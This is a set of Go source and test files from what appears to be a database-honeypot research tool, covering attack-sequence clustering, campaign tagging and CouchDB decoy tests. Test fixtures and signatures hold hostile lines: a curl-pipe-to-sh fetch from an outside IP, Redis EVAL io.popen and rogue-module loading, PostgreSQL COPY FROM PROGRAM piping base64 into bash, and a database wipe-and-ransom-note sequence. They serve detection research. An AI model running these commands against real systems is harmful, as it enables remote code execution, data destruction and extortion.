type Linkage int

// Supported linkages. All three are reducible, so the nearest-neighbour
// chain algorithm applies. The paper uses Ward; Single and Complete exist
// for the ablation comparing linkage quality on campaign ground truth.
const (
	WardLinkage Linkage = iota
	SingleLinkage
	CompleteLinkage
)

// Ward builds the dendrogram for the given vectors using Ward linkage via
// the nearest-neighbour chain algorithm.
func Ward(vecs []Vector) Dendrogram {
	return Agglomerate(vecs, WardLinkage)
}

// Agglomerate builds the dendrogram under the chosen linkage.
func Agglomerate(vecs []Vector, linkage Linkage) Dendrogram {
	n := len(vecs)
	dg := Dendrogram{Leaves: n}
	if n <= 1 {
		return dg
	}
	// Distance state: d holds current inter-cluster Ward distances
	// (initialised to squared Euclidean), size holds cluster sizes,
	// alive marks active clusters, node maps slot -> dendrogram node id.
	d := make([][]float64, n)
	for i := range d {
		d[i] = make([]float64, n)
	}
	for i := 0; i < n; i++ {
		for j := i + 1; j < n; j++ {
			dist := SqDist(vecs[i], vecs[j])
			d[i][j], d[j][i] = dist, dist
		}
	}
	size := make([]float64, n)
	node := make([]int, n)
	alive := make([]bool, n)
	for i := range size {
		size[i] = 1
		node[i] = i
		alive[i] = true
	}

	var chain []int
	remaining := n
	next := n // next dendrogram node id
	for remaining > 1 {
		if len(chain) == 0 {
			for i := 0; i < n; i++ {
				if alive[i] {
					chain = append(chain, i)
					break
				}
			}
		}
		for {
			c := chain[len(chain)-1]
			// Find nearest alive neighbour of c.
			nn, best := -1, 0.0
			for j := 0; j < n; j++ {
				if !alive[j] || j == c {
					continue
				}
				if nn == -1 || d[c][j] < best {
					nn, best = j, d[c][j]
				}
			}
			if len(chain) >= 2 && nn == chain[len(chain)-2] {
				// Reciprocal nearest neighbours: merge c and nn.
				a, b := c, nn
				chain = chain[:len(chain)-2]
				dg.Merges = append(dg.Merges, Merge{A: node[a], B: node[b], Height: d[a][b]})
				// Lance–Williams update into slot a.
				na, nb := size[a], size[b]
				for k := 0; k < n; k++ {
					if !alive[k] || k == a || k == b {
						continue
					}
					switch linkage {
					case SingleLinkage:
						if d[b][k] < d[a][k] {
							d[a][k] = d[b][k]
						}
					case CompleteLinkage:
						if d[b][k] > d[a][k] {
							d[a][k] = d[b][k]
						}
					default: // Ward
						nk := size[k]
						d[a][k] = ((na+nk)*d[a][k] + (nb+nk)*d[b][k] - nk*d[a][b]) / (na + nb + nk)
					}
					d[k][a] = d[a][k]
				}
				size[a] = na + nb
				alive[b] = false
				node[a] = next
				next++
				remaining--
				break
			}
			chain = append(chain, nn)
		}
	}
	return dg
}

// Cut assigns cluster labels by cutting the dendrogram at height h: every
// merge with Height <= h is applied. Labels are dense, 0-based, ordered
// by first leaf appearance.
func (dg Dendrogram) Cut(h float64) []int {
	parent := make([]int, dg.Leaves+len(dg.Merges))
	for i := range parent {
		parent[i] = i
	}
	var find func(int) int
	find = func(x int) int {
		for parent[x] != x {
			parent[x] = parent[parent[x]]
			x = parent[x]
		}
		return x
	}
	for i, m := range dg.Merges {
		if m.Height <= h {
			id := dg.Leaves + i
			ra, rb := find(m.A), find(m.B)
			parent[ra] = id
			parent[rb] = id
		}
	}
	labels := make([]int, dg.Leaves)
	seen := map[int]int{}
	for i := 0; i < dg.Leaves; i++ {
		r := find(i)
		if _, ok := seen[r]; !ok {
			seen[r] = len(seen)
		}
		labels[i] = seen[r]
	}
	return labels
}

// CutK cuts the dendrogram so that exactly k clusters remain (k clamped
// to [1, leaves]). With Ward linkage merge heights are monotone, so
// applying the first leaves-k merges is the optimal-height cut.
func (dg Dendrogram) CutK(k int) []int {
	if k < 1 {
		k = 1
	}
	if k > dg.Leaves {
		k = dg.Leaves
	}
	merges := dg.Leaves - k
	parent := make([]int, dg.Leaves+len(dg.Merges))
	for i := range parent {
		parent[i] = i
	}
	var find func(int) int
	find = func(x int) int {
		for parent[x] != x {
			parent[x] = parent[parent[x]]
			x = parent[x]
		}
		return x
	}
	// Merges must be applied in height order for a clean cut.
	order := make([]int, len(dg.Merges))
	for i := range order {
		order[i] = i
	}
	sort.Slice(order, func(a, b int) bool { return dg.Merges[order[a]].Height < dg.Merges[order[b]].Height })
	for _, mi := range order[:merges] {
		m := dg.Merges[mi]
		id := dg.Leaves + mi
		parent[find(m.A)] = id
		parent[find(m.B)] = id
	}
	labels := make([]int, dg.Leaves)
	seen := map[int]int{}
	for i := 0; i < dg.Leaves; i++ {
		r := find(i)
		if _, ok := seen[r]; !ok {
			seen[r] = len(seen)
		}
		labels[i] = seen[r]
	}
	return labels
}

// NumClusters reports max(labels)+1.
func NumClusters(labels []int) int {
	max := -1
	for _, l := range labels {
		if l > max {
			max = l
		}
	}
	return max + 1
}

// Result bundles a clustering outcome.
type Result struct {
	Sequences []Sequence
	Labels    []int
	Clusters  int
}

// Run vectorises, clusters (Ward) and cuts at height h in one call.
func Run(seqs []Sequence, h float64) Result {
	vecs, _ := Vectorize(seqs)
	dg := Ward(vecs)
	labels := dg.Cut(h)
	return Result{Sequences: seqs, Labels: labels, Clusters: NumClusters(labels)}
}

// Members returns the sequence IDs in cluster l.
func (r Result) Members(l int) []string {
	var out []string
	for i, lab := range r.Labels {
		if lab == l {
			out = append(out, r.Sequences[i].ID)
		}
	}
	return out
}

// Sizes returns cluster sizes indexed by label.
func (r Result) Sizes() []int {
	out := make([]int, r.Clusters)
	for _, l := range r.Labels {
		out[l]++
	}
	return out
}

// SqDist returns the squared Euclidean distance between two vectors,
// treating missing trailing dimensions as zero — so vectors built
// against vocabularies of different sizes (an online assigner's growing
// vocabulary versus an offline corpus) compare without padding. It is
// the distance both the Ward agglomeration here and the incremental
// centroid assignment in internal/stream measure with; sharing it keeps
// online and offline assignments agreeing on stable corpora.
func SqDist(a, b Vector) float64 {
	la, lb := len(a), len(b)
	n := la
	if lb > n {
		n = lb
	}
	var sum float64
	for i := 0; i < n; i++ {
		var x, y float64
		if i < la {
			x = a[i]
		}
		if i < lb {
			y = b[i]
		}
		diff := x - y
		sum += diff * diff
	}
	return sum
}

// String renders a compact summary.
func (r Result) String() string {
	return fmt.Sprintf("%d sequences in %d clusters", len(r.Sequences), r.Clusters)
}
