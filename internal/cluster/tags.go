package cluster

import "strings"

// Campaign tags the paper assigns to clusters of interest (Table 9), as
// recognisable signatures over member action sequences and raw payloads.
const (
	TagP2PInfect  = "p2pinfect"
	TagABCbot     = "abcbot"
	TagKinsing    = "kinsing"
	TagLucifer    = "lucifer"
	TagRedisCVE   = "cve-2022-0543"
	TagRansom     = "ransom"
	TagRDPScan    = "rdp-scan"
	TagJDWPScan   = "jdwp-scan"
	TagCraftCMS   = "cve-2023-41892"
	TagVMware     = "cve-2021-22005"
	TagBruteForce = "bruteforce"
	TagPrivilege  = "privilege-manipulation"
	TagNone       = ""
)

// TagSequence inspects one source's actions (names + raw excerpts) and
// returns the campaign tag it matches, if any. Signature precedence goes
// from most to least specific, mirroring the paper's manual tagging that
// backed tags with external indicators (file names, C2 URLs, note text).
func TagSequence(actions []string, raws []string) string {
	names := strings.Join(actions, "\n")
	raw := strings.Join(raws, "\n")
	has := func(s string) bool { return strings.Contains(names, s) }
	rawHas := func(s string) bool { return strings.Contains(raw, s) }

	switch {
	case rawHas("exp.so") || (has("SLAVEOF") && has("MODULE LOAD")):
		return TagP2PInfect
	case rawHas("ff.sh"):
		return TagABCbot
	case has("EVAL") && rawHas("io.popen"):
		return TagRedisCVE
	case has("COPY FROM PROGRAM") && (rawHas("base64 -d | bash") || rawHas("pg.sh") || rawHas("pg2.sh")):
		return TagKinsing
	case has("SEARCH SCRIPT-EXEC") && (rawHas("sss6") || rawHas("sv6")):
		return TagLucifer
	case has("SEARCH SCRIPT-EXEC"):
		return TagLucifer
	case has("CVE-2023-41892 PROBE"):
		return TagCraftCMS
	case has("CVE-2021-22005 PROBE"):
		return TagVMware
	case has("DELETE") && has("INSERT") && (rawHas("BTC") || rawHas("backed up") || rawHas("recover")):
		return TagRansom
	case rawHas("mstshash="):
		return TagRDPScan
	case rawHas("JDWP-Handshake"):
		return TagJDWPScan
	case has("ALTER USER") || has("ALTER ROLE"):
		return TagPrivilege
	}
	return TagNone
}

// TagClusters tags every cluster in r by majority member signature and
// returns label -> tag (untagged clusters are omitted).
func TagClusters(r Result, rawsByID map[string][]string) map[int]string {
	votes := map[int]map[string]int{}
	for i, seq := range r.Sequences {
		tag := TagSequence(seq.Actions, rawsByID[seq.ID])
		if tag == TagNone {
			continue
		}
		l := r.Labels[i]
		if votes[l] == nil {
			votes[l] = map[string]int{}
		}
		votes[l][tag]++
	}
	out := map[int]string{}
	for l, vs := range votes {
		bestTag, best := "", 0
		for tag, n := range vs {
			if n > best || (n == best && tag < bestTag) {
				bestTag, best = tag, n
			}
		}
		out[l] = bestTag
	}
	return out
}
