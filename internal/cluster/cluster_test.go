package cluster

import (
	"fmt"
	"math"
	"math/rand"
	"testing"
	"testing/quick"
)

func TestVectorize(t *testing.T) {
	seqs := []Sequence{
		{ID: "a", Actions: []string{"SET", "SET", "GET", "DEL"}},
		{ID: "b", Actions: []string{"GET"}},
		{ID: "c", Actions: nil},
	}
	vecs, vocab := Vectorize(seqs)
	if len(vocab) != 3 {
		t.Fatalf("vocab = %v", vocab)
	}
	// tf(SET, a) = 2/4.
	idx := map[string]int{}
	for i, v := range vocab {
		idx[v] = i
	}
	if vecs[0][idx["SET"]] != 0.5 || vecs[0][idx["GET"]] != 0.25 {
		t.Fatalf("vec a = %v", vecs[0])
	}
	if vecs[1][idx["GET"]] != 1 {
		t.Fatalf("vec b = %v", vecs[1])
	}
	for _, x := range vecs[2] {
		if x != 0 {
			t.Fatalf("empty sequence vector = %v", vecs[2])
		}
	}
	// TF vectors sum to 1 (or 0 for empty sequences).
	for i, v := range vecs {
		var sum float64
		for _, x := range v {
			sum += x
		}
		if len(seqs[i].Actions) > 0 && math.Abs(sum-1) > 1e-12 {
			t.Fatalf("vec %d sums to %v", i, sum)
		}
	}
}

// twoBlobs builds two well-separated behaviour groups plus an outlier.
func twoBlobs() []Sequence {
	var seqs []Sequence
	for i := 0; i < 10; i++ {
		// Brute-force-ish group.
		seqs = append(seqs, Sequence{
			ID:      fmt.Sprintf("bf-%d", i),
			Actions: []string{"AUTH", "AUTH", "AUTH", "INFO"},
		})
	}
	for i := 0; i < 10; i++ {
		// P2PInfect-ish group: same sequence shape, different params
		// already stripped by normalisation.
		seqs = append(seqs, Sequence{
			ID:      fmt.Sprintf("worm-%d", i),
			Actions: []string{"INFO", "SET", "CONFIG SET dir", "CONFIG SET dbfilename", "SLAVEOF", "MODULE LOAD"},
		})
	}
	seqs = append(seqs, Sequence{ID: "outlier", Actions: []string{"KEYS"}})
	return seqs
}

func TestWardSeparatesBehaviours(t *testing.T) {
	seqs := twoBlobs()
	vecs, _ := Vectorize(seqs)
	dg := Ward(vecs)
	labels := dg.CutK(3)
	if n := NumClusters(labels); n != 3 {
		t.Fatalf("clusters = %d", n)
	}
	// All brute-force members share a label, all worm members share a
	// label, and the two differ.
	bf, worm := labels[0], labels[10]
	for i := 0; i < 10; i++ {
		if labels[i] != bf {
			t.Fatalf("bf member %d in cluster %d, want %d", i, labels[i], bf)
		}
		if labels[10+i] != worm {
			t.Fatalf("worm member %d in cluster %d, want %d", i, labels[10+i], worm)
		}
	}
	if bf == worm {
		t.Fatal("behaviour groups merged")
	}
	if labels[20] == bf || labels[20] == worm {
		t.Fatal("outlier absorbed")
	}
}

func TestIdenticalSequencesMergeAtZero(t *testing.T) {
	seqs := []Sequence{
		{ID: "x", Actions: []string{"SET", "GET"}},
		{ID: "y", Actions: []string{"SET", "GET"}},
		{ID: "z", Actions: []string{"FLUSHDB"}},
	}
	vecs, _ := Vectorize(seqs)
	dg := Ward(vecs)
	labels := dg.Cut(1e-12)
	if labels[0] != labels[1] {
		t.Fatal("identical sequences not merged at height 0")
	}
	if labels[2] == labels[0] {
		t.Fatal("distinct sequence merged at height 0")
	}
}

func TestCutExtremes(t *testing.T) {
	vecs, _ := Vectorize(twoBlobs())
	dg := Ward(vecs)
	all := dg.Cut(math.Inf(1))
	if NumClusters(all) != 1 {
		t.Fatalf("cut at inf = %d clusters", NumClusters(all))
	}
	none := dg.Cut(-1)
	if NumClusters(none) != len(vecs) {
		t.Fatalf("cut below 0 = %d clusters", NumClusters(none))
	}
	if got := NumClusters(dg.CutK(1)); got != 1 {
		t.Fatalf("CutK(1) = %d", got)
	}
	if got := NumClusters(dg.CutK(9999)); got != len(vecs) {
		t.Fatalf("CutK(big) = %d", got)
	}
}

func TestDendrogramDegenerate(t *testing.T) {
	if dg := Ward(nil); dg.Leaves != 0 || len(dg.Merges) != 0 {
		t.Fatal("empty input")
	}
	dg := Ward([]Vector{{1, 0}})
	if dg.Leaves != 1 || len(dg.Merges) != 0 {
		t.Fatal("single input")
	}
	if labels := dg.Cut(10); len(labels) != 1 || labels[0] != 0 {
		t.Fatalf("single cut = %v", labels)
	}
}

// Property: Ward produces exactly n-1 merges and CutK(k) yields exactly k
// clusters for any k in range, on random inputs.
func TestWardStructureQuick(t *testing.T) {
	r := rand.New(rand.NewSource(5))
	f := func() bool {
		n := 2 + r.Intn(30)
		dim := 1 + r.Intn(5)
		vecs := make([]Vector, n)
		for i := range vecs {
			v := make(Vector, dim)
			for j := range v {
				v[j] = r.Float64()
			}
			vecs[i] = v
		}
		dg := Ward(vecs)
		if len(dg.Merges) != n-1 {
			return false
		}
		k := 1 + r.Intn(n)
		if NumClusters(dg.CutK(k)) != k {
			return false
		}
		return true
	}
	if err := quick.Check(f, &quick.Config{MaxCount: 60}); err != nil {
		t.Fatal(err)
	}
}

func TestRunAndMembers(t *testing.T) {
	res := Run(twoBlobs(), 0.05)
	if res.Clusters < 2 {
		t.Fatalf("clusters = %d", res.Clusters)
	}
	total := 0
	for _, sz := range res.Sizes() {
		total += sz
	}
	if total != len(res.Sequences) {
		t.Fatalf("sizes sum = %d", total)
	}
	m := res.Members(res.Labels[0])
	if len(m) == 0 || m[0] != "bf-0" {
		t.Fatalf("members = %v", m)
	}
	if res.String() == "" {
		t.Fatal("empty String()")
	}
}

func TestTagSequence(t *testing.T) {
	cases := []struct {
		name    string
		actions []string
		raws    []string
		want    string
	}{
		{"p2pinfect", []string{"SLAVEOF", "MODULE LOAD"}, []string{"CONFIG SET dbfilename exp.so"}, TagP2PInfect},
		{"abcbot", []string{"SET"}, []string{"SET x curl http://198.51.100.2:80/ff.sh|sh"}, TagABCbot},
		{"redis-cve", []string{"EVAL"}, []string{`EVAL local io = io_l(); io.popen("id")`}, TagRedisCVE},
		{"kinsing", []string{"CREATE TABLE", "COPY FROM PROGRAM"}, []string{"COPY t FROM PROGRAM 'echo x | base64 -d | bash'"}, TagKinsing},
		{"lucifer", []string{"SEARCH SCRIPT-EXEC"}, []string{"curl -o /tmp/sss6"}, TagLucifer},
		{"craftcms", []string{"CVE-2023-41892 PROBE"}, nil, TagCraftCMS},
		{"vmware", []string{"CVE-2021-22005 PROBE"}, nil, TagVMware},
		{"ransom", []string{"FIND", "DELETE", "INSERT"}, []string{"doc=content=You must pay 0.0058 BTC"}, TagRansom},
		{"rdp", []string{"PROTOCOL-ERROR"}, []string{"Cookie: mstshash=Administr"}, TagRDPScan},
		{"jdwp", []string{"JDWP-HANDSHAKE"}, []string{"JDWP-Handshake"}, TagJDWPScan},
		{"privilege", []string{"ALTER USER"}, nil, TagPrivilege},
		{"benign", []string{"INFO", "KEYS"}, nil, TagNone},
	}
	for _, c := range cases {
		if got := TagSequence(c.actions, c.raws); got != c.want {
			t.Errorf("%s: tag = %q, want %q", c.name, got, c.want)
		}
	}
}

func TestTagClustersMajority(t *testing.T) {
	seqs := []Sequence{
		{ID: "a", Actions: []string{"SLAVEOF", "MODULE LOAD"}},
		{ID: "b", Actions: []string{"SLAVEOF", "MODULE LOAD"}},
		{ID: "c", Actions: []string{"KEYS"}},
	}
	res := Run(seqs, 1e-9)
	raws := map[string][]string{}
	tags := TagClusters(res, raws)
	wormLabel := res.Labels[0]
	if tags[wormLabel] != TagP2PInfect {
		t.Fatalf("tags = %v", tags)
	}
	if _, ok := tags[res.Labels[2]]; ok {
		t.Fatal("benign cluster tagged")
	}
}
