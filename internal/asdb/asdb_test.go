package asdb

import "testing"

func TestRegistryIntegrity(t *testing.T) {
	seen := map[uint32]bool{}
	for _, a := range All() {
		if a.ASN == 0 {
			t.Fatal("ASN 0 must stay reserved for unmapped space")
		}
		if seen[a.ASN] {
			t.Fatalf("duplicate ASN %d", a.ASN)
		}
		seen[a.ASN] = true
		if a.Name == "" || a.Type == "" || a.Registered == "" {
			t.Fatalf("incomplete record %+v", a)
		}
	}
}

func TestAllSorted(t *testing.T) {
	all := All()
	for i := 1; i < len(all); i++ {
		if all[i-1].ASN >= all[i].ASN {
			t.Fatalf("registry not sorted at %d", i)
		}
	}
}

func TestPaperASes(t *testing.T) {
	cases := []struct {
		asn  uint32
		name string
		typ  Type
	}{
		{6939, "HURRICANE", Telecom},
		{396982, "GOOGLE-CLOUD-PLATFORM", Hosting},
		{14061, "DIGITALOCEAN-ASN", Hosting},
		{211298, "Constantine Cybersecurity Ltd.", Security},
		{4134, "Chinanet", Telecom},
		{398324, "CENSYS-ARIN-01", Security},
		{208091, "XHOST-INTERNET-SOLUTIONS", Hosting},
	}
	for _, c := range cases {
		got := Lookup(c.asn)
		if got.Name != c.name || got.Type != c.typ {
			t.Errorf("Lookup(%d) = %q/%s, want %q/%s", c.asn, got.Name, got.Type, c.name, c.typ)
		}
	}
}

func TestUnknownLookup(t *testing.T) {
	if got := Lookup(0); got.Type != Unknown {
		t.Fatalf("Lookup(0) = %+v", got)
	}
	if got := Lookup(4294967295); got.Type != Unknown || got.ASN != 4294967295 {
		t.Fatalf("Lookup(max) = %+v", got)
	}
}

func TestInstitutionalFlags(t *testing.T) {
	for _, asn := range []uint32{398324, 395092, 59113, 37153, 64496, 48693, 211298} {
		if !Institutional(asn) {
			t.Errorf("AS%d should be institutional", asn)
		}
	}
	for _, asn := range []uint32{6939, 4134, 14061} {
		if Institutional(asn) {
			t.Errorf("AS%d should not be institutional", asn)
		}
	}
}
