// Package asdb classifies Autonomous Systems by organisation type,
// reproducing the paper's manual AS classification (Section 4.3 and
// Appendix D) that was cross-referenced with ASdb. The registry is the
// single source of truth for AS identity in the system: the GeoIP
// allocation table, the traffic simulator and the analysis tables all key
// off these ASNs, mirroring how the paper keyed its tables off the
// MaxMind + ASdb view of April 2024.
package asdb

import "sort"

// Type is the organisation category of an AS (paper Appendix D).
type Type string

// AS organisation types.
const (
	Business   Type = "Business"
	Hosting    Type = "Hosting"
	ICT        Type = "ICT"
	IPService  Type = "IP Service"
	Security   Type = "Security"
	Telecom    Type = "Telecom"
	University Type = "University"
	VPN        Type = "VPN"
	Unknown    Type = "Unknown"
)

// AS describes one autonomous system.
type AS struct {
	ASN        uint32
	Name       string
	Type       Type
	Registered string // ISO country of registration (may differ from where its IPs geolocate)
	// Institutional marks ASes on the known-scanner institutional list
	// (Censys, Shodan, research scanners) per Griffioen et al., which the
	// paper uses to separate acknowledged scanning from the rest.
	Institutional bool
}

// Registry of ASes used across the system. ASNs for organisations the
// paper names are real; the rest are realistic fillers for the synthetic
// allocation table.
var registry = []AS{
	// --- named in the paper ---
	{ASN: 6939, Name: "HURRICANE", Type: Telecom, Registered: "US"},
	{ASN: 396982, Name: "GOOGLE-CLOUD-PLATFORM", Type: Hosting, Registered: "US"},
	{ASN: 14061, Name: "DIGITALOCEAN-ASN", Type: Hosting, Registered: "US"},
	{ASN: 211298, Name: "Constantine Cybersecurity Ltd.", Type: Security, Registered: "GB", Institutional: true},
	{ASN: 14618, Name: "AMAZON-AES", Type: Hosting, Registered: "US"},
	{ASN: 135377, Name: "UCLOUD INFORMATION TECHNOLOGY HK Ltd.", Type: Hosting, Registered: "HK"},
	{ASN: 4134, Name: "Chinanet", Type: Telecom, Registered: "CN"},
	{ASN: 4837, Name: "CHINA UNICOM China169 Backbone", Type: Telecom, Registered: "CN"},
	{ASN: 398324, Name: "CENSYS-ARIN-01", Type: Security, Registered: "US", Institutional: true},
	{ASN: 63949, Name: "Akamai Connected Cloud", Type: Hosting, Registered: "US"},
	{ASN: 208091, Name: "XHOST-INTERNET-SOLUTIONS", Type: Hosting, Registered: "GB"},
	// --- institutional / security scanners ---
	{ASN: 395092, Name: "SHODAN", Type: Security, Registered: "US", Institutional: true},
	{ASN: 202425, Name: "IP Volume inc", Type: IPService, Registered: "SC"},
	{ASN: 59113, Name: "Shadowserver Foundation", Type: Security, Registered: "US", Institutional: true},
	{ASN: 37153, Name: "BinaryEdge", Type: Security, Registered: "CH", Institutional: true},
	{ASN: 64496, Name: "InterneTTL Research Scanning", Type: Security, Registered: "US", Institutional: true},
	{ASN: 48693, Name: "Rapid7 Project Sonar", Type: Security, Registered: "US", Institutional: true},
	// --- hosting ---
	{ASN: 24940, Name: "Hetzner Online GmbH", Type: Hosting, Registered: "DE"},
	{ASN: 16276, Name: "OVH SAS", Type: Hosting, Registered: "FR"},
	{ASN: 12876, Name: "SCALEWAY S.A.S.", Type: Hosting, Registered: "FR"},
	{ASN: 20473, Name: "AS-CHOOPA (Vultr)", Type: Hosting, Registered: "US"},
	{ASN: 45102, Name: "Alibaba (US) Technology Co.", Type: Hosting, Registered: "CN"},
	{ASN: 45090, Name: "Shenzhen Tencent Computer Systems", Type: Hosting, Registered: "CN"},
	{ASN: 34224, Name: "Neterra Ltd.", Type: Hosting, Registered: "BG"},
	{ASN: 49981, Name: "WorldStream B.V.", Type: Hosting, Registered: "NL"},
	{ASN: 16509, Name: "AMAZON-02", Type: Hosting, Registered: "US"},
	{ASN: 8075, Name: "MICROSOFT-CORP-MSN-AS-BLOCK", Type: Hosting, Registered: "US"},
	{ASN: 51167, Name: "Contabo GmbH", Type: Hosting, Registered: "DE"},
	{ASN: 57043, Name: "HOSTKEY B.V.", Type: Hosting, Registered: "NL"},
	{ASN: 44477, Name: "STARK INDUSTRIES SOLUTIONS", Type: Hosting, Registered: "GB"},
	{ASN: 35048, Name: "Biterika Group LLC", Type: Hosting, Registered: "RU"},
	{ASN: 213035, Name: "Serverion LLC", Type: Hosting, Registered: "US"},
	{ASN: 132203, Name: "Tencent Building, Kejizhongyi Avenue", Type: Hosting, Registered: "CN"},
	{ASN: 55990, Name: "Huawei Cloud Service", Type: Hosting, Registered: "CN"},
	{ASN: 262287, Name: "Latitude.sh", Type: Hosting, Registered: "BR"},
	{ASN: 34619, Name: "Cizgi Telekomunikasyon", Type: Hosting, Registered: "TR"},
	{ASN: 45430, Name: "SBN-ISP / AWN", Type: Hosting, Registered: "TH"},
	// --- telecom / ISPs ---
	{ASN: 12389, Name: "Rostelecom", Type: Telecom, Registered: "RU"},
	{ASN: 3249, Name: "Telia Eesti AS", Type: Telecom, Registered: "EE"},
	{ASN: 4766, Name: "Korea Telecom", Type: Telecom, Registered: "KR"},
	{ASN: 6849, Name: "JSC Ukrtelecom", Type: Telecom, Registered: "UA"},
	{ASN: 58224, Name: "Iran Telecommunication Company", Type: Telecom, Registered: "IR"},
	{ASN: 35805, Name: "Silknet JSC", Type: Telecom, Registered: "GE"},
	{ASN: 6799, Name: "OTE SA", Type: Telecom, Registered: "GR"},
	{ASN: 9829, Name: "National Internet Backbone (BSNL)", Type: Telecom, Registered: "IN"},
	{ASN: 8866, Name: "Bulgarian Telecommunications Company", Type: Telecom, Registered: "BG"},
	{ASN: 3320, Name: "Deutsche Telekom AG", Type: Telecom, Registered: "DE"},
	{ASN: 3215, Name: "Orange S.A.", Type: Telecom, Registered: "FR"},
	{ASN: 1136, Name: "KPN B.V.", Type: Telecom, Registered: "NL"},
	{ASN: 7473, Name: "Singapore Telecommunications", Type: Telecom, Registered: "SG"},
	{ASN: 7713, Name: "PT Telekomunikasi Indonesia", Type: Telecom, Registered: "ID"},
	{ASN: 7922, Name: "COMCAST-7922", Type: Telecom, Registered: "US"},
	{ASN: 2856, Name: "British Telecommunications PLC", Type: Telecom, Registered: "GB"},
	{ASN: 4812, Name: "China Telecom (Group)", Type: Telecom, Registered: "CN"},
	{ASN: 135905, Name: "VNPT Corp", Type: Telecom, Registered: "VN"},
	// --- other categories ---
	{ASN: 13335, Name: "CLOUDFLARENET", Type: ICT, Registered: "US"},
	{ASN: 19551, Name: "Incapsula Inc", Type: ICT, Registered: "US"},
	{ASN: 15169, Name: "GOOGLE", Type: ICT, Registered: "US"},
	{ASN: 32934, Name: "FACEBOOK", Type: Business, Registered: "US"},
	{ASN: 714, Name: "APPLE-ENGINEERING", Type: Business, Registered: "US"},
	{ASN: 1103, Name: "SURF B.V.", Type: University, Registered: "NL"},
	{ASN: 9009, Name: "M247 Europe SRL", Type: VPN, Registered: "RO"},
	{ASN: 212238, Name: "Datacamp Limited (CDN77 VPN)", Type: VPN, Registered: "GB"},
	{ASN: 6128, Name: "CABLE-NET-1", Type: IPService, Registered: "US"},
}

var byASN = func() map[uint32]AS {
	m := make(map[uint32]AS, len(registry))
	for _, a := range registry {
		m[a.ASN] = a
	}
	return m
}()

// Lookup returns the AS record for asn. Unregistered ASNs (including 0,
// which the GeoIP layer uses for unmapped space) come back as Unknown.
func Lookup(asn uint32) AS {
	if a, ok := byASN[asn]; ok {
		return a
	}
	return AS{ASN: asn, Name: "UNKNOWN", Type: Unknown}
}

// All returns the registry sorted by ASN.
func All() []AS {
	out := make([]AS, len(registry))
	copy(out, registry)
	sort.Slice(out, func(i, j int) bool { return out[i].ASN < out[j].ASN })
	return out
}

// Institutional reports whether asn is on the institutional scanner list.
func Institutional(asn uint32) bool { return Lookup(asn).Institutional }

// Types lists all organisation types in display order.
func Types() []Type {
	return []Type{Hosting, Telecom, Security, ICT, IPService, Business, University, VPN, Unknown}
}
