package couchdb

import (
	"bufio"
	"encoding/json"
	"io"
	"net"
	"net/http"
	"reflect"
	"strconv"
	"strings"
	"testing"

	"decoydb/internal/core"
	"decoydb/internal/hptest"
)

func cdbInfo() core.Info {
	return core.Info{DBMS: core.CouchDB, Level: core.Medium, Port: 5984, Config: core.ConfigFakeData, Group: core.GroupMedium}
}

func request(t *testing.T, conn net.Conn, br *bufio.Reader, method, target, body string) (int, string) {
	t.Helper()
	req := method + " " + target + " HTTP/1.1\r\nHost: victim:5984\r\n"
	if body != "" {
		req += "Content-Type: application/json\r\nContent-Length: " + strconv.Itoa(len(body)) + "\r\n"
	}
	req += "\r\n" + body
	if _, err := conn.Write([]byte(req)); err != nil {
		t.Fatal(err)
	}
	resp, err := http.ReadResponse(br, nil)
	if err != nil {
		t.Fatalf("read response: %v", err)
	}
	defer resp.Body.Close()
	b, err := io.ReadAll(resp.Body)
	if err != nil {
		t.Fatal(err)
	}
	return resp.StatusCode, string(b)
}

func seeded() *Honeypot {
	return New(map[string][]json.RawMessage{
		"customers": {
			json.RawMessage(`{"name":"Amber Duke","card":"4532-1111-2222-0000"}`),
			json.RawMessage(`{"name":"Hattie Bond","card":"4532-3333-4444-0000"}`),
		},
	})
}

func TestWelcomeBanner(t *testing.T) {
	hp := seeded()
	events := hptest.Run(t, hp.Handler(), cdbInfo(), func(t *testing.T, conn net.Conn) {
		br := bufio.NewReader(conn)
		status, body := request(t, conn, br, "GET", "/", "")
		if status != 200 {
			t.Fatalf("status = %d", status)
		}
		var banner map[string]any
		if err := json.Unmarshal([]byte(body), &banner); err != nil {
			t.Fatal(err)
		}
		if banner["couchdb"] != "Welcome" || banner["version"] != Version {
			t.Fatalf("banner = %v", banner)
		}
	})
	if cmds := hptest.Commands(events); len(cmds) != 1 || cmds[0] != "GET /" {
		t.Fatalf("commands = %v", cmds)
	}
}

func TestEnumerationAndDump(t *testing.T) {
	hp := seeded()
	events := hptest.Run(t, hp.Handler(), cdbInfo(), func(t *testing.T, conn net.Conn) {
		br := bufio.NewReader(conn)
		status, body := request(t, conn, br, "GET", "/_all_dbs", "")
		if status != 200 {
			t.Fatalf("_all_dbs status = %d", status)
		}
		var dbs []string
		if err := json.Unmarshal([]byte(body), &dbs); err != nil {
			t.Fatal(err)
		}
		if !reflect.DeepEqual(dbs, []string{"_replicator", "_users", "customers"}) {
			t.Fatalf("dbs = %v", dbs)
		}
		status, body = request(t, conn, br, "GET", "/customers/_all_docs", "")
		if status != 200 || !strings.Contains(body, "Amber Duke") {
			t.Fatalf("dump: %d %q", status, body)
		}
	})
	cmds := hptest.Commands(events)
	want := []string{"GET /_all_dbs", "GET /{db}/_all_docs"}
	if !reflect.DeepEqual(cmds, want) {
		t.Fatalf("commands = %v", cmds)
	}
}

// TestRansomSequence wipes the database and leaves a note, the CouchDB
// variant of the MongoDB attack from the paper's Section 6.3.
func TestRansomSequence(t *testing.T) {
	hp := seeded()
	hptest.Run(t, hp.Handler(), cdbInfo(), func(t *testing.T, conn net.Conn) {
		br := bufio.NewReader(conn)
		if status, _ := request(t, conn, br, "GET", "/customers/_all_docs", ""); status != 200 {
			t.Fatal("dump failed")
		}
		if status, _ := request(t, conn, br, "DELETE", "/customers", ""); status != 200 {
			t.Fatal("delete failed")
		}
		if status, _ := request(t, conn, br, "PUT", "/read_me_to_recover", ""); status != 201 {
			t.Fatal("create failed")
		}
		note := `{"note":"send 0.01 BTC to recover"}`
		if status, _ := request(t, conn, br, "POST", "/read_me_to_recover", note); status != 201 {
			t.Fatal("note insert failed")
		}
	})
	if hp.DocCount("customers") != 0 {
		t.Fatal("customers database survived")
	}
	dbs := hp.Databases()
	found := false
	for _, db := range dbs {
		if db == "read_me_to_recover" {
			found = true
		}
		if db == "customers" {
			t.Fatal("customers still listed")
		}
	}
	if !found || hp.DocCount("read_me_to_recover") != 1 {
		t.Fatalf("ransom note missing: dbs=%v", dbs)
	}
}

func TestCVE201712635Capture(t *testing.T) {
	hp := New(nil)
